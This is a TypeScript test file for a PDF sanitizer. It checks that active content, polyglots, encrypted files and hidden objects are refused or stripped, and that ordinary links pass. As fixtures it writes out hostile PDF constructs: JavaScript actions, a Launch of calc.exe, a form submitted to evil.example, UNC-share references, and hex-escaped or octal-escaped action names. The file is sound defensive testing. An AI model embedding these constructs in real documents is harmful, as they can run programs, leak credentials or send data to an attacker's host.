import { deflateSync } from 'node:zlib'
import { PDFDocument, PDFName, PDFString, StandardFonts } from '@cantoo/pdf-lib'
import { describe, expect, test } from 'vitest'
import { compressed, pdf } from '#tests/fixtures/pdfs.ts'
import { rewritePdf } from './rewrite-pdf.ts'

const latin1 = (text: string) => new Uint8Array(Buffer.from(text, 'latin1'))
const joined = (...parts: Uint8Array[]) => new Uint8Array(Buffer.concat(parts))
const textOf = (bytes: Uint8Array) => Buffer.from(bytes).toString('latin1')

async function problemOf(file: Uint8Array): Promise<string | null> {
  const read = await rewritePdf(file)
  return 'problem' in read ? read.problem : null
}

/** As most programs write it: a table at the end, and `trailer`. */
function withTable(objects: string[], { newline = '\n', before = '' } = {}): Uint8Array {
  let text = `%PDF-1.4${newline}%\xe2\xe3\xcf\xd3${newline}${before}`
  const offsets = objects.map((object, index) => {
    const offset = text.length
    text += `${index + 1} 0 obj${newline}${object}${newline}endobj${newline}`
    return offset
  })
  const start = text.length
  text += `xref${newline}0 ${objects.length + 1}${newline}0000000000 65535 f \n`
  for (const offset of offsets) text += `${String(offset).padStart(10, '0')} 00000 n \n`
  text += `trailer${newline}<</Size ${objects.length + 1}/Root 1 0 R>>${newline}startxref${newline}${start}${newline}%%EOF`
  return latin1(text)
}
const page = '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>'
const pages = '<</Type/Pages/Kids[3 0 R]/Count 1>>'
const plainObjects = ['<</Type/Catalog/Pages 2 0 R>>', pages, page]

/** Written by the library, with a font, text and a link, with its objects in compressed streams or not. */
async function written(useObjectStreams: boolean): Promise<Uint8Array> {
  const document = await PDFDocument.create()
  document.setTitle('Résumé of Ama Osei')
  const font = await document.embedFont(StandardFonts.Helvetica)
  const sheet = document.addPage()
  sheet.drawText('Cook, writer, /JavaScript developer', { font, size: 18 })
  const link = document.context.obj({
    Type: 'Annot',
    Subtype: 'Link',
    Rect: [0, 0, 100, 100],
    A: { S: 'URI', URI: PDFString.of('https://www.people.example/ama') },
  })
  sheet.node.set(PDFName.of('Annots'), document.context.obj([document.context.register(link)]))
  return document.save({ useObjectStreams })
}

const beside = (text: string) => latin1(textOf(withTable(plainObjects)).replace('/Root 1 0 R', text))
const inCatalog = (more: string, ...objects: string[]) =>
  withTable([`<</Type/Catalog/Pages 2 0 R${more}>>`, pages, page, ...objects])

test.each([
  [
    'a catalog beside the objects',
    beside('/Root<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(x)>>>>'),
  ],
  ['a script in what describes it', beside('/Root 1 0 R/Info<</A<</S/JavaScript/JS(x)>>>>')],
  [
    'an address of a script that stands elsewhere',
    inCatalog('/A<</S/URI/URI 4 0 R>>', '(javascript:alert\\(1\\))'),
  ],
  ['an address of another program', inCatalog('/A<</S/URI/URI(search-ms:query=x)>>')],
  ['an address of another machine', inCatalog('/A<</S/URI/URI(\\\\\\\\host\\\\share)>>')],
  ['a file on another machine', inCatalog('/A<</S/Thread/F(\\\\\\\\host\\\\x.pdf)>>')],
  ['pages of another file', inCatalog('/Ref<</F(other.pdf)/Page 0>>')],
  ['a page of the web that opens with it', inCatalog('/OpenAction<</S/URI/URI(https://people.example)>>')],
  [
    'a script of a drawing in space',
    inCatalog('/Annots[<</Subtype/3D/3DD<</OnInstantiate 4 0 R>>>>]', '(x)'),
  ],
])('refuses %s', async (_, file) => {
  expect(await problemOf(file)).not.toBeNull()
})

test.each([
  ['a link to the web', inCatalog('/A<</S/URI/URI(https://people.example/ama)>>')],
  ['a link that was typed without its beginning', inCatalog('/A<</S/URI/URI(www.people.example/ama)>>')],
  [
    'a mail and a call',
    inCatalog('/A[<</S/URI/URI(mailto:ama@people.example)>><</S/URI/URI(tel:+17135550142)>>]'),
  ],
  [
    'flags, and a font of this name',
    inCatalog('/A<</F 4>>/Font<</F 4 0 R>>', '<</Type/Font/BaseFont/Figtree>>'),
  ],
])('lets %s pass', async (_, file) => {
  expect(await problemOf(file)).toBeNull()
})

describe('a file without anything that acts passes', () => {
  test.each([
    ['small', pdf()],
    ['with blanks behind it', pdf({ after: '\r\n\0\0' })],
    ['with compressed objects', pdf({ extra: compressed('11 0 << /Type /Font /BaseFont /Figtree >>') })],
    ['with a table', withTable(plainObjects)],
    ['with lines as another system ends them', withTable(plainObjects, { newline: '\r\n' })],
    [
      'that opens on its first page',
      withTable(['<</Type/Catalog/Pages 2 0 R/OpenAction[3 0 R/Fit]>>', pages, page]),
    ],
    [
      'with bookmarks that lead within it',
      withTable([
        '<</Type/Catalog/Pages 2 0 R/OpenAction<</S/GoTo/D[3 0 R/XYZ null null 0]>>/Outlines 4 0 R>>',
        pages,
        page,
        '<</Type/Outlines/Count 0>>',
      ]),
    ],
    [
      'with notes of how it was made between its objects',
      withTable(plainObjects, { before: '% made by hand\n' }),
    ],
    [
      'that was changed and saved at its end',
      joined(withTable(plainObjects), latin1(`\n3 0 obj\n${page}\nendobj\nstartxref\n0\n%%EOF\n`)),
    ],
  ])('%s', async (_, file) => {
    expect(await problemOf(file)).toBeNull()
  })

  test.each([true, false])('made by a library, in compressed objects: %s; and says the same', async (is) => {
    const read = await rewritePdf(await written(is))
    const { bytes } = read as { bytes: Uint8Array }
    const again = await PDFDocument.load(bytes, { updateMetadata: false, throwOnInvalidObject: true })
    expect([again.getPageCount(), again.getTitle()]).toEqual([1, 'Résumé of Ama Osei'])
    expect(textOf(bytes)).toContain('https://www.people.example/ama')
    expect(await problemOf(bytes)).toBeNull()
  })
})

describe('what is no PDF, not whole, or more than one, is refused', () => {
  test.each([
    ['no_pdf', 'nothing', new Uint8Array()],
    ['no_pdf', 'a picture called PDF', latin1('\xff\xd8\xff\xe0JFIF')],
    ['no_pdf', 'a page', latin1('<html><script>alert(1)</script></html>')],
    ['no_pdf', 'an archive', latin1('PK\x03\x04')],
    ['no_pdf', 'one behind something else', joined(latin1('GIF89a;'), pdf())],
    ['not_whole', 'one that was cut off', pdf().subarray(0, 200)],
    ['not_whole', 'one cut off in its table', withTable(plainObjects).subarray(0, -60)],
    ['not_whole', 'a head and an end', latin1('%PDF-1.7\nA licence\nstartxref\n0\n%%EOF')],
    [
      'not_whole',
      'one without pages',
      withTable(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[]>>']),
    ],
    ['not_whole', 'an object that doesn’t end', pdf({ extra: '7 0 obj\n<< /A [1 2' })],
    [
      'not_whole',
      'pages in a circle',
      withTable(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[2 0 R]>>']),
    ],
    ['not_whole', 'nesting without end', pdf({ extra: `7 0 obj\n${'['.repeat(200_000)}\nendobj` })],
    [
      'not_whole',
      'compressed objects that are none',
      pdf({
        extra:
          '9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\nno\nendstream\nendobj',
      }),
    ],
    ['more_than_pdf', 'an archive behind it', joined(pdf(), latin1('PK\x05\x06'), new Uint8Array(18))],
    [
      'more_than_pdf',
      'an archive in it',
      pdf({ extra: `5 0 obj\n<< /Length 22 >>\nstream\nPK\x05\x06${'\0'.repeat(18)}\nendstream\nendobj` }),
    ],
    ['more_than_pdf', 'a script behind it', pdf({ after: '\n<script>alert(1)</script>' })],
    [
      'more_than_pdf',
      'a page at its head',
      latin1(`%PDF-1.7\n<html><script>alert(1)</script>${textOf(pdf())}`),
    ],
    ['locked', 'locked', pdf({ trailer: '/Encrypt 8 0 R' })],
    ['locked', 'locked in another spelling', pdf({ trailer: '/#45ncrypt 8 0 R' })],
    [
      'locked',
      'locked, with its table in a stream',
      pdf({
        extra:
          '9 0 obj\n<</Type/XRef/W[1 1 1]/Size 1/Length 3/Encrypt 8 0 R/Root 1 0 R>>\nstream\n\0\0\0\nendstream\nendobj',
      }),
    ],
  ])('%s: %s', async (problem, _, file) => {
    expect(await problemOf(file)).toBe(problem)
  })
})

const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'

describe('what acts by itself, starts something or brings files along is refused', () => {
  test.each([
    ['an action', `7 0 obj\n${script}\nendobj`],
    ['its header on two lines', `7 0\nobj\n${script}\nendobj`],
    ['its header in tabs and comments', `7\t%x\r0 % y\n\tobj${script}endobj`],
    ['without blanks', '7 0 obj<</S/JavaScript/JS(app.alert\\(1\\))>>endobj'],
    ['its name escaped', '7 0 obj\n<< /S /J#61vaScript /J#53 (x) >>\nendobj'],
    ['in small letters, too', '7 0 obj\n<< /S /#4a#61va#53cript >>\nendobj'],
    [
      'letter by letter',
      `7 0 obj\n<< /S /${[...'Launch'].map((at) => `#${at.charCodeAt(0).toString(16)}`).join('')} >>\nendobj`,
    ],
    ['when it opens', `7 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction${script}>>\nendobj`],
    ['when something happens to a page', `7 0 obj\n<</Type/Page/AA<</O ${script}>>>>\nendobj`],
    ['among its names', '7 0 obj\n<</Names<</JavaScript<</Names[(a)8 0 R]>>>>>>\nendobj'],
    ['deep in an array', `7 0 obj\n[[[<</A[<</B ${script}>>]>>]]]\nendobj`],
    ['on a stream', '7 0 obj\n<</Length 1/A<</S/Launch/F(calc.exe)>>>>\nstream\nx\nendstream\nendobj'],
    ['a form of its own kind', '7 0 obj\n<</AcroForm<</XFA 8 0 R>>>>\nendobj'],
    ['a program', '7 0 obj\n<< /S /Launch /F (calc.exe) >>\nendobj'],
    ['a form that is sent somewhere', '7 0 obj\n<< /S /SubmitForm /F (http://evil.example) >>\nendobj'],
    ['files', '7 0 obj\n<< /Names << /EmbeddedFiles 8 0 R >> >>\nendobj'],
    ['a file', '7 0 obj\n<</Type/Filespec/EF<</F 8 0 R>>>>\nendobj'],
    ['another file on a share', '7 0 obj\n<</S/GoToR/F(\\\\\\\\evil.example\\\\a.pdf)>>\nendobj'],
    [
      'bytes of another file',
      '7 0 obj\n<</Length 0/F(\\\\\\\\evil.example\\\\a)>>\nstream\n\nendstream\nendobj',
    ],
    ['a film with scripts', '7 0 obj\n<</Subtype/RichMedia>>\nendobj'],
    ['a link that is a script', '7 0 obj\n<</S/URI/URI( java\\163cript:alert\\(1\\))>>\nendobj'],
    ['in compressed objects', compressed(`11 0 ${script}`)],
    ['in compressed objects, escaped', compressed('11 0 << /S /Lau#6ech /F (calc.exe) >>')],
    ['in a version that a later one covers', `7 0 obj\n${script}\nendobj\n7 0 obj\n<</A 1>>\nendobj`],
  ])('%s', async (name, extra) => {
    const isCovered = name.startsWith('in a version')
    const read = await rewritePdf(pdf({ extra }))
    // What can no longer be reached is gone.
    if (isCovered) expect(textOf((read as { bytes: Uint8Array }).bytes)).not.toContain('alert')
    else expect(read).toEqual({ problem: 'active' })
  })

  test('in a locked file, too, there is nothing to see', async () => {
    expect(await problemOf(pdf({ extra: `7 0 obj\n${script}\nendobj`, trailer: '/Encrypt 8 0 R' }))).toBe(
      'locked',
    )
  })
})

describe('what only another program would find is not in what is kept:', () => {
  const kept = async (extra: string) => {
    const read = await rewritePdf(pdf({ extra }))
    return 'bytes' in read ? textOf(read.bytes) : read.problem
  }

  test('containers whose kind is spelled in another way, or not at all', async () => {
    const packed = deflateSync(Buffer.from(`11 0 ${script}`)).toString('latin1')
    const container = (kind: string) =>
      `9 0 obj\n<<${kind}/N 1/First 5/Filter/FlateDecode/Length ${packed.length}>>\nstream\n${packed}\nendstream\nendobj`
    expect(await kept(container('/Type/Obj#53tm'))).toBe('active')
    expect(await kept(container('/Type/Ob#6aStm'))).not.toContain('/First')
    // Without a name it is just bytes, and no table says otherwise anymore.
    expect(await kept(container(''))).not.toMatch(/\/Type\s*\/XRef/)
  })

  test('objects in the middle of a stream that a table points at', async () => {
    const hidden = `endobj 8 0 obj ${script} endobj`
    const file = withTable([...plainObjects, `<</Length ${hidden.length}>>\nstream\n${hidden}\nendstream`])
    const pointing = latin1(textOf(file).replace('/Size 5', '/Size 5/Prev 400'))
    const { bytes } = (await rewritePdf(pointing)) as { bytes: Uint8Array }
    const tables = textOf(bytes).match(/\nstartxref/g)
    expect([tables?.length, textOf(bytes).includes('/Prev')]).toEqual([1, false])
    const table = textOf(bytes).slice(textOf(bytes).lastIndexOf('\nxref'))
    expect(table.match(/ n /g)).toHaveLength(4)
  })
})
